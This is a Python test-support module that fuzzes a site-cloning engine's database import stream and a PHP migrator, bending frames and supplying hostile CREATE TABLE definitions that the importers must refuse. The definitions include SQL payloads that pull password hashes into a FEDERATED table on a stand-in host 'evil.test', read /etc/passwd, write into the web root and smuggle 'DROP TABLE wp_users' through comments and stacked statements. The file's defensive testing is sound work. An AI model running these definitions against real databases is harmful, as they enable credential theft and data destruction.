"""What the hostile-stream tests share: well-formed streams and the ways a hostile source bends them,
table definitions that attack, the migrator's PHP import run through the php CLI, and the watchdog and
tally of each fuzzed example."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import strategies as st

from wpclone_engine import frames

# The longest any example may take before it counts as a hang (hypothesis's deadline is tighter).
EXAMPLE_SECONDS = 5.0
MIGRATOR_IMPORT = Path(__file__).with_name("migrator_import.php")
SOURCE_HOST = b"source.test"  # never in generated values: rows arrive exactly as sent

Frames = list[tuple[bytes, bytes]]


@dataclass(frozen=True)
class Table:
    name: str
    columns: tuple[str, ...]
    rows: tuple[tuple[bytes | None, ...], ...]
    engine: str = "InnoDB"

    @property
    def create(self) -> str:
        columns = ",\n  ".join(f"`{column}` varbinary(64) DEFAULT NULL" for column in self.columns)
        return f"CREATE TABLE `{self.name}` (\n  {columns}\n) ENGINE={self.engine} DEFAULT CHARSET=utf8mb4"

    def frames(self) -> Frames:
        return [
            (frames.TABLE, _json({"name": self.name, "create": self.create, "columns": list(self.columns)})),
            (frames.ROWS, b"".join(frames.encode_record(row) for row in self.rows)),
            (frames.TABLE_END, _json({"name": self.name, "rows": len(self.rows)})),
        ]


def _json(data: dict[str, Any]) -> bytes:
    return json.dumps(data).encode()


values = st.none() | st.binary(max_size=40).filter(lambda value: SOURCE_HOST not in value)


@st.composite
def tables(draw: st.DrawFn) -> list[Table]:
    found = []
    for index in range(draw(st.integers(1, 3))):
        columns = draw(st.lists(st.from_regex(r"[a-z][a-z0-9_]{0,11}", fullmatch=True), min_size=1, max_size=4,
                                unique=True))
        rows = draw(st.lists(st.tuples(*[values] * len(columns)), max_size=6))
        engine = draw(st.sampled_from(["InnoDB", "MyISAM", "Aria", "MEMORY"]))
        found.append(Table(f"wp_t{index}", tuple(columns), tuple(rows), engine))
    return found


# --- table definitions that attack (each must be refused by both importers) ---------------------------

def hostile_definitions(table: str) -> dict[str, str]:
    head = f"CREATE TABLE `{table}` (\n  `a` varbinary(64) DEFAULT NULL\n)"
    return {
        "create-select": head + " ENGINE=InnoDB SELECT user_pass AS a FROM wp_users",
        "create-as-select": head + " ENGINE=InnoDB AS SELECT user_pass AS a FROM wp_users",
        "federated": head + " ENGINE=FEDERATED CONNECTION='mysql://u:p@evil.test:3306/db/wp_users'",
        "connect": head + " ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'",
        "engine-as-string": head + " ENGINE='FEDERATED'",
        "merge": head + " ENGINE=MRG_MyISAM UNION=(`wp_users`)",
        "blackhole": head + " ENGINE=BLACKHOLE",
        "data-directory": head + " ENGINE=InnoDB DATA DIRECTORY='/var/www/html'",
        "index-directory": head + " ENGINE=MyISAM INDEX DIRECTORY='/tmp'",
        "tablespace": head + " TABLESPACE `innodb_system`",
        "partition": head + " PARTITION BY KEY (`a`) PARTITIONS 2",
        "system-versioning": head + " WITH SYSTEM VERSIONING",
        "versioned-comment": f"CREATE TABLE `{table}` (\n  `a` int /*!50000 ) SELECT 1 AS a; DROP TABLE x; */\n)",
        "block-comment": head + " ENGINE=InnoDB /* ENGINE=FEDERATED */",
        "line-comment": f"CREATE TABLE `{table}` (\n  `a` int -- ); DROP TABLE wp_users\n)",
        "hash-comment": f"CREATE TABLE `{table}` (\n  `a` int # ); DROP TABLE wp_users\n)",
        "stacked": head + "; DROP TABLE wp_users",
        "stacked-inside": f"CREATE TABLE `{table}` (\n  `a` int); DROP TABLE `wp_users`; CREATE TABLE `x` (`b` int\n)",
        "double-quotes": head + ' COMMENT="x"',
        "user-variable": f"CREATE TABLE `{table}` (\n  `a` int DEFAULT @secret\n)",
        "inline-references": f"CREATE TABLE `{table}` (\n  `a` bigint REFERENCES `wp_users` (`ID`)\n)",
        "period": f"CREATE TABLE `{table}` (\n  `a` date,\n  `b` date,\n  PERIOD FOR `p` (`a`, `b`)\n)",
        "empty-part": f"CREATE TABLE `{table}` (\n  `a` int,\n  ,\n  `b` int\n)",
        "trailing-comma": f"CREATE TABLE `{table}` (\n  `a` int,\n)",
        "like": f"CREATE TABLE `{table}` LIKE `wp_users`",
        "if-not-exists": f"CREATE TABLE IF NOT EXISTS `{table}` (\n  `a` int\n)",
        "temporary": f"CREATE TEMPORARY TABLE `{table}` (\n  `a` int\n)",
        "another-table": head.replace(f"`{table}`", "`wp_users`"),
        "unclosed": f"CREATE TABLE `{table}` (\n  `a` int",
        "unclosed-string": f"CREATE TABLE `{table}` (\n  `a` int COMMENT 'x\n) ENGINE=InnoDB",
        "closed-twice": head + ")",
        "option-without-value": head + " ENGINE=",
        "empty": "",
        "oversized": head + " COMMENT='" + "x" * (1024 * 1024) + "'",
    }


# --- bending a well-formed stream -------------------------------------------------------------------

def _first(kind: bytes, sent: Frames) -> int:
    return next(at for at, (found, _) in enumerate(sent) if found == kind)


def _table_json(sent: Frames, change: Callable[[dict[str, Any]], object]) -> Frames:
    at = _first(frames.TABLE, sent)
    data = json.loads(sent[at][1])
    change(data)
    return sent[:at] + [(frames.TABLE, _json(data))] + sent[at + 1:]


def _end_payload(sent: Frames, payload: bytes) -> Frames:
    at = _first(frames.TABLE_END, sent)
    return sent[:at] + [(frames.TABLE_END, payload)] + sent[at + 1:]


def _end_rows(sent: Frames, change: Callable[[int], object]) -> Frames:
    at = _first(frames.TABLE_END, sent)
    data = json.loads(sent[at][1])
    return _end_payload(sent, _json({**data, "rows": change(data["rows"])}))


# Each bends the frames of a well-formed stream the way a hostile source could.
STRUCTURAL: dict[str, Callable[[Frames], Frames]] = {
    "no-columns": lambda sent: _table_json(sent, lambda data: data.update(columns=[])),
    "extra-column": lambda sent: _table_json(sent, lambda data: data["columns"].append("zz_extra")),
    "one-column-less": lambda sent: _table_json(sent, lambda data: data["columns"].pop()),
    "columns-not-a-list": lambda sent: _table_json(sent, lambda data: data.update(columns="a")),
    "duplicate-columns": lambda sent: _table_json(sent, lambda data: data.update(columns=["a", "a"])),
    "name-missing": lambda sent: _table_json(sent, lambda data: data.pop("name")),
    "name-too-long": lambda sent: _table_json(sent, lambda data: data.update(name="wp_" + "x" * 100)),
    "name-half-a-surrogate": lambda sent: _table_json(sent, lambda data: data.update(name="wp_\ud800")),
    "other-prefix": lambda sent: _table_json(sent, lambda data: data.update(name="other_t0")),
    "rows-lie": lambda sent: _end_rows(sent, lambda rows: rows + 1),
    "rows-negative": lambda sent: _end_rows(sent, lambda rows: -1),
    "rows-as-text": lambda sent: _end_rows(sent, str),
    "rows-as-float": lambda sent: _end_rows(sent, lambda rows: rows + 0.5),
    "rows-huge": lambda sent: _end_payload(sent, b'{"name": "wp_t0", "rows": 1' + b"0" * 5000 + b"}"),
    "rows-beyond-int64": lambda sent: _end_rows(sent, lambda rows: 2 ** 70),
    "rows-infinite": lambda sent: _end_payload(sent, b'{"name": "wp_t0", "rows": 1e999}'),
    "json-nested-deeply": lambda sent: [(frames.TABLE, b"[" * 100_000 + b"]" * 100_000), *sent],
    "json-not-an-object": lambda sent: [(frames.TABLE, b"[]"), *sent],
    "unknown-kind": lambda sent: [*sent[:1], (b"Q", b"x"), *sent[1:]],
    "file-frame-in-database": lambda sent: [*sent[:1], (frames.FILE, frames.encode_record([b"a", b"1", b"0", b"0"])),
                                            *sent[1:]],
    "rows-before-table": lambda sent: [(frames.ROWS, frames.encode_record([b"x"])), *sent],
    "table-twice": lambda sent: [sent[0], *sent],
    "table-not-ended": lambda sent: [frame for frame in sent if frame[0] != frames.TABLE_END],
    "value-longer-than-frame": lambda sent: [*sent[:1], (frames.ROWS, b"\x00\x00\xff\xf0"), *sent[1:]],
}
for _name, _create in hostile_definitions("wp_t0").items():
    if _name != "oversized":  # 1 MiB: tested once, not per example
        STRUCTURAL[f"definition-{_name}"] = (
            lambda create: lambda sent: _table_json(sent, lambda data: data.update(create=create)))(_create)


@dataclass(frozen=True)
class Bend:
    """A way to bend a stream: a structural change, then bytes overwritten, inserted or cut off."""

    structural: str | None = None
    at: int = 0
    overwrite: bytes = b""
    insert: bytes = b""
    cut: bool = False
    garbage: bytes | None = None

    def __str__(self) -> str:
        if self.garbage is not None:
            return "garbage"
        edits = [what for what, done in (("overwrite", self.overwrite), ("insert", self.insert), ("cut", self.cut))
                 if done]
        return " ".join([self.structural or "", *(f"{edit}@{self.at}" for edit in edits)]).strip() or "well-formed"

    def apply(self, sent: Frames, wrap: Callable[[Frames], Frames]) -> bytes:
        """The stream of the tables' frames `sent`, wrapped as an export or a chunk, bent."""
        if self.garbage is not None:
            return self.garbage
        if self.structural:
            sent = STRUCTURAL[self.structural](sent)
        stream = b"".join(frames.encode_frame(kind, payload) for kind, payload in wrap(sent))
        at = self.at % (len(stream) + 1)
        if self.overwrite:
            stream = stream[:at] + self.overwrite + stream[at + len(self.overwrite):]
        if self.insert:
            stream = stream[:at] + self.insert + stream[at:]
        return stream[:at] if self.cut else stream


bends = st.one_of(
    st.just(Bend()),
    st.builds(Bend, structural=st.sampled_from(sorted(STRUCTURAL))),
    st.builds(Bend, at=st.integers(0, 4096), overwrite=st.binary(min_size=1, max_size=8)),
    st.builds(Bend, at=st.integers(0, 4096), insert=st.binary(min_size=1, max_size=8)),
    st.builds(Bend, at=st.integers(0, 4096), cut=st.just(True)),
    st.builds(Bend, garbage=st.binary(max_size=200)),
)


def export_stream(sent: Frames) -> Frames:
    """An export: the tables' frames, then Z."""
    return [*sent, (frames.END, _json({"tables": 0}))]


def import_chunk(sent: Frames) -> Frames:
    """A migrator's database chunk: H, then the tables' frames."""
    return [(frames.HEADER, _json({"job": "0123456789ab", "seq": 1})), *sent]


# --- the migrator's PHP ---------------------------------------------------------------------------

def php(mode: str, stdin: bytes, env: dict[str, str] | None = None) -> Any:
    """The answer of tests/security/migrator_import.php; fails the test on any unmapped PHP error."""
    assert shutil.which("php") is not None, "php is not installed: run testenv/install-system-packages.sh"
    strict = ["-d", "error_reporting=-1", "-d", "display_errors=stderr"]  # a notice is a failure too
    done = subprocess.run(["php", *strict, str(MIGRATOR_IMPORT), mode], input=stdin, capture_output=True,
                          timeout=EXAMPLE_SECONDS, env={**os.environ, **(env or {})})
    assert done.returncode == 0 and not done.stderr, f"the migrator failed unmapped: {done.stderr.decode()[-2000:]}"
    return json.loads(done.stdout)


def php_definitions(creates: list[str], table: str, staging: str) -> list[dict[str, Any]]:
    """What the migrator makes of each definition of `table`: {statement} or {error, message}."""
    asked = [{"create": create, "name": table, "staging": staging} for create in creates]
    answers: list[dict[str, Any]] = php("definitions", json.dumps(asked).encode())
    return answers


# --- each example: a watchdog, and what came of it ------------------------------------------------------

@contextlib.contextmanager
def watchdog(seconds: float = EXAMPLE_SECONDS) -> Iterator[None]:
    """Interrupts an example that runs longer than `seconds` (a loop that consumes no input never ends by
    itself, and an asyncio timeout cannot interrupt code that never awaits)."""
    def hang(signum: int, frame: object) -> None:
        raise TimeoutError(f"the example ran longer than {seconds}s: a hang")
    previous = signal.signal(signal.SIGALRM, hang)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@dataclass
class Tally:
    """What the fuzzed examples of one test came to: outcomes, and the slowest refusal."""

    name: str
    outcomes: Counter[str] = field(default_factory=Counter)
    slowest: tuple[float, str, str] = (0.0, "", "")  # seconds, reason, how the stream was bent

    @contextlib.contextmanager
    def example(self, bend: Bend) -> Iterator[Callable[[str], None]]:
        """Times one example; the caller reports its outcome: "imported" or the refusal's reason."""
        started, outcome = time.perf_counter(), list[str]()
        yield outcome.append
        elapsed = time.perf_counter() - started
        self.outcomes[outcome[0] if outcome else "unreported"] += 1
        if outcome and outcome[0] != "imported" and elapsed > self.slowest[0]:
            self.slowest = (elapsed, outcome[0], str(bend))

    def summary(self) -> str:
        cases = sum(self.outcomes.values())
        seconds, reason, bend = self.slowest
        counts = ", ".join(f"{outcome} {count}" for outcome, count in self.outcomes.most_common())
        return (f"{self.name}: {cases} cases ({counts}); slowest refusal {seconds * 1000:.1f} ms "
                f"({reason}, {bend})")


def report(request: pytest.FixtureRequest, tallies: list[Tally]) -> None:
    """Shows each tally in the test run's output, even where output is captured."""
    plugins = request.config.pluginmanager
    terminal, capture = plugins.get_plugin("terminalreporter"), plugins.get_plugin("capturemanager")
    if terminal is None or capture is None:
        return
    with capture.global_and_fixture_disabled():
        terminal.write_line("")
        for tally in tallies:
            if tally.outcomes:
                terminal.write_line(tally.summary())

